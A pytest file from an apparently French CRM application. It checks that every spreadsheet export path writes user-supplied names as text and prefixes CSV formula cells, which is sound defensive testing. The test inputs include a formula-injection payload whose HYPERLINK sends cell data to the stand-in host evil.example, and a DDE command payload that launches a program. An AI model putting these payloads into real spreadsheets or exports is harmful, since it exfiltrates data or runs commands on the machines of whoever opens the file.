"""Exports never carry a live formula (issue 15, finding 3): a name filed through the public form,
the API or a partner import is written as text in XLSX (no `<f>` cell) and prefixed with `'` in CSV,
on every export path (companies, spotter statistics, import rejects, plan sheets)."""

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from crm import models as m
from crm.extensions import db
from crm.services.platform import spreadsheet_files
from tests import factories as f
from tests.test_api import NEEDS, payload, token_for
from tests.test_openapi import ApiClient
from tests.test_partner_import import confirm, uploaded
from tests.test_public_pages import form

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Voir la fiche")'
COMMAND = "+cmd|' /C calc'!A0"

pytestmark = pytest.mark.usefixtures("roomy_rate_limit")


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def xlsx_cells(content: bytes) -> list:
    """Every cell object of the first sheet, as openpyxl reads it back."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, *values: str) -> None:
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
    cells = {cell.value: cell for cell in xlsx_cells(content)}
    for value in values:
        assert value in cells, f"{value!r} not exported as it was typed"
        assert cells[value].data_type == "s"


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
            for cell in row]


def export(client, fmt: str):
    response = client.post("/entreprises/export", query_string={"q": "hyperlink"},
                           data={"format": fmt})
    assert response.status_code == 200
    return response


def test_a_name_filed_through_the_public_form_is_text_in_both_exports(client, auth,
                                                                      agency_and_adviser):
    response = client.post("/recrutement", data=form(company_name=HYPERLINK))
    assert response.status_code == 302
    assert db.session.scalar(sa.select(m.Company.name)) == HYPERLINK
    auth.login(agency_and_adviser[1])
    assert_text_only(export(client, "xlsx").get_data(), HYPERLINK)
    response = export(client, "csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "'" + HYPERLINK in csv_cells(response.get_data())
    assert HYPERLINK not in csv_cells(response.get_data())


def test_a_name_filed_through_the_api_is_text_in_both_exports(client, auth, agency_and_adviser):
    adviser = agency_and_adviser[1]
    api = ApiClient(client)
    answer = api.post(NEEDS, json=payload(company_name=COMMAND), token=token_for(adviser))
    assert answer.status_code == 201
    auth.login(adviser)
    response = client.post("/entreprises/export", query_string={"q": "cmd"}, data={"format": "xlsx"})
    assert_text_only(response.get_data(), COMMAND)
    response = client.post("/entreprises/export", query_string={"q": "cmd"}, data={"format": "csv"})
    assert "'" + COMMAND in csv_cells(response.get_data())


def test_a_large_export_job_writes_text_too(app, client, auth, agency_and_adviser, run_jobs,
                                            monkeypatch):
    f.CompanyFactory(name=HYPERLINK, search_name="hyperlink evil")
    monkeypatch.setitem(app.config, "CRM_EXPORT_SYNC_LIMIT", 0)
    auth.login(agency_and_adviser[1])
    task_id = client.post("/entreprises/export", query_string={"q": "hyperlink"},
                          data={"format": "csv"}).headers["Location"].rsplit("/", 1)[1]
    run_jobs()
    response = client.get(f"/entreprises/exports/{task_id}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "'" + HYPERLINK in csv_cells(response.get_data())


def test_spotter_statistics_prefix_a_formula_organisation_name(client, auth, agency_and_adviser):
    spotter = f.OrganisationFactory(name="@SUM(1+1)*cmd", kind=m.OrganisationKind.CCI,
                                    is_spotter=True)
    f.HiringNeedFactory(source=m.NeedSource.SPOTTER, source_organisation=spotter)
    auth.login(f.UserFactory(role=m.Role.ADMIN))
    response = client.get("/pilotage/reperage.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "'@SUM(1+1)*cmd" in csv_cells(response.get_data())


def test_import_rejects_prefix_the_values_of_the_file(client, auth, run_jobs):
    partner = f.UserFactory(role=m.Role.PARTNER, organisation=f.OrganisationFactory(
        kind=m.OrganisationKind.CCI, is_spotter=True))
    auth.login(partner)
    content = f'SIRET;Raison sociale\n12345;"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
    task_id = confirm(client, uploaded(client, run_jobs, content.encode(), "liste.csv"),
                      {"siret": "SIRET", "name": "Raison sociale"}, tag="essai")
    run_jobs()
    response = client.get(f"/entreprises/import/{task_id}/rejets.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    cells = csv_cells(response.get_data())
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells


def test_the_plan_sheet_writes_its_texts_as_text(client, signed_in):
    plan = f.ProspectionPlanFactory(basin_code="2711", name=HYPERLINK, methods="-2+3")
    db.session.commit()
    response = client.get(f"/plans/{plan.id}/export.xlsx")
    assert response.status_code == 200
    assert_text_only(response.get_data(), HYPERLINK, "-2+3")


def test_the_writer_keeps_numbers_and_drops_characters_xml_cannot_hold():
    content = spreadsheet_files.xlsx_bytes([["a\x00b\x1f", 3, -2.5, "=1+1"]])
    assert [cell.value for cell in xlsx_cells(content)] == ["ab", 3, -2.5, "=1+1"]
    assert csv_cells(spreadsheet_files.csv_bytes([["=1", "\tx", "\rz", "-3", -3, "a=b", "@", "+"]])) == [
        "'=1", "'\tx", "'\rz", "'-3", "-3", "a=b", "'@", "'+"]
